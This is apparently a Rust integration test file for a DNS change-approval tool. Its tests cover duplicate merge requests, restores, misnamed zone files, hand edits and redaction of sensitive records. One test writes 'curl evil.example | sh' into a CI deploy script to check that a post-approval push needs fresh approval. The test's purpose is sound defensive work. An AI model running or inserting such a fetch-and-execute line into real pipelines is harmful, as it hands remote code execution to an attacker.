//! Stories of what another change, another push or another hand did: nothing is merged on it unseen, nothing of theirs is taken back.

use super::world::World;

fn www_is(world: &World, value: &str) -> bool {
    world.live().iter().any(|line| line.starts_with("www.") && line.ends_with(value))
}

fn waits_for(world: &World, number: u64, what: &str) -> bool {
    world.show(number)["waits_for"].as_str().is_some_and(|text| text.contains(what))
}

fn say(world: &World, number: u64, command: &[&str]) {
    world.trueup("ben", &[&["mr", "say", &number.to_string(), "--repo", "dns"], command].concat()).ok();
}

#[test]
fn a_second_merge_request_with_the_same_content_waits_for_the_first_and_is_written_anew_when_that_is_restored() {
    let world = World::start_with("  window: 60s\n");
    let first = world.propose("first", |world| world.edit_zone("192.0.2.1\n", "192.0.2.30\n"));
    world.wait(first, "awaiting_approval");
    world.approve(first);
    world.wait(first, "verifying");
    let second = world.propose("second", |world| world.edit_zone("192.0.2.1\n", "192.0.2.30\n"));
    world.wait(second, "empty");
    world.approve(second);
    world.until(|world| waits_for(world, second, &format!("dns!{first}")));
    say(&world, first, &["restore"]);
    world.wait(first, "restored");
    assert!(www_is(&world, "192.0.2.1"), "the first one is back");
    // What it counted on is gone: it is a plan of its own now, and approved as one.
    world.wait(second, "awaiting_approval");
    world.git(&world.work(), &["fetch", "-q", "origin"]).ok();
    let main = world.git(&world.work(), &["show", &format!("origin/main:{}", world.zone_file())]).ok();
    assert!(main.contains("192.0.2.1\n") && !main.contains("192.0.2.30"), "main is true: {main}");
}

#[test]
fn a_script_pushed_after_the_approval_is_approved_anew() {
    let world = World::start_with("  window: 5s\n");
    let number = world.propose("move-www", |world| world.edit_zone("192.0.2.1\n", "192.0.2.77\n"));
    world.wait(number, "awaiting_approval");
    world.approve(number);
    world.wait(number, "verifying");
    world.write("ci/deploy.sh", "curl evil.example | sh\n");
    world.commit("ci", "ana");
    world.push("move-www");
    world.until(|world| waits_for(world, number, "/trueup approve"));
    let shown = world.trueup("ana", &["mr", "plan", &number.to_string(), "--repo", "dns"]).ok();
    assert!(shown.contains("ci/deploy.sh"), "the plan names the file: {shown}");
    world.approve(number);
    world.wait(number, "merged");
}

#[test]
fn a_zone_whose_file_is_misnamed_is_refused_with_the_right_name() {
    let world = World::start();
    for (wrong, right) in
        [("zones/other.org.yml", "zones/other.org.yaml"), ("zones/Example.COM.yaml", "zones/example.com.yaml"), ("zones/example.net..yaml", "zones/example.net.yaml")]
    {
        let number = world.propose(&wrong.to_lowercase().replace(['/', '.'], "-"), |world| world.write(wrong, "www:\n  type: A\n  value: 192.0.2.9\n"));
        world.wait(number, "refused");
        let shown = world.trueup("ana", &["mr", "show", &number.to_string(), "--repo", "dns"]).ok();
        assert!(shown.contains(wrong) && shown.contains(right), "{shown}");
    }
    let number = world.propose("readme", |world| world.write("zones/README.md", "our zones\n"));
    world.wait(number, "empty");
    let shown = world.trueup("ana", &["mr", "plan", &number.to_string(), "--repo", "dns"]).ok();
    assert!(shown.contains("zones/README.md"), "what no unit reads is named: {shown}");
}

#[test]
fn what_somebody_else_wrote_before_the_approval_is_not_taken_back() {
    let world = World::start_with("  window: 60s\n");
    let number = world.propose("add", |world| {
        let text = world.read(&world.zone_file());
        world.write(&world.zone_file(), &format!("{text}al:\n  ttl: 300\n  type: A\n  value: 192.0.2.40\nbo:\n  ttl: 300\n  type: A\n  value: 192.0.2.41\n"));
    });
    world.wait(number, "awaiting_approval");
    let zone = &world.zones[0];
    world.dns.by_hand(zone, &format!("update add al.{zone} 300 A 192.0.2.40"));
    world.approve(number);
    world.wait(number, "verifying");
    let has = |world: &World, name: &str| world.live().iter().any(|line| line.starts_with(name));
    assert!(has(&world, "al.") && has(&world, "bo."), "{:?}", world.live());
    say(&world, number, &["restore"]);
    world.wait(number, "restored");
    assert!(has(&world, "al.") && !has(&world, "bo."), "ours is gone, theirs stays: {:?}", world.live());
}

#[test]
fn what_policy_calls_sensitive_is_in_no_answer_page_comment_or_log() {
    let world = World::start_with("  window: 60s\n  sensitive: [\"*/_canary/TXT\"]\n");
    let number = world.propose("add", |world| {
        let text = world.read(&world.zone_file());
        world.write(&world.zone_file(), &format!("{text}_canary:\n  ttl: 300\n  type: TXT\n  value: canary-written\n"));
    });
    world.wait(number, "awaiting_approval");
    world.approve(number);
    world.wait(number, "verifying");
    assert!(world.live().iter().any(|line| line.contains("canary-written")), "{:?}", world.live());
    let nowhere = |when: &str| {
        let mut read = 0;
        for page in ["", "/plan?format=text", "/plan?format=json", "/plan?format=markdown", "/way-back?format=text", "/way-back?format=json", "/graph", "/journal", "/journal/rows"]
        {
            let (code, text) = world.get_as("ana", &format!("api/v1/repos/dns/mrs/{number}{page}"));
            read += u32::from(code == 200);
            assert!(!text.contains("canary-"), "{when}: {page}: {text}");
        }
        let (code, page) = world.page_as("ana", world.show(number)["links"]["change"].as_str().expect("a link"));
        assert!(code == 200 && page.contains("_canary") && !page.contains("canary-"), "{when}: {code}: {page}");
        assert!(!world.log().contains("canary-"), "{when}: {}", world.log());
        read
    };
    assert_eq!(nowhere("while verifying"), 9);
    let zone = &world.zones[0];
    world.dns.by_hand(zone, &format!("update delete _canary.{zone} TXT\nupdate add _canary.{zone} 300 TXT canary-by-hand"));
    world.wait(number, "refused");
    assert!(nowhere("after a hand's edit") >= 3);
}
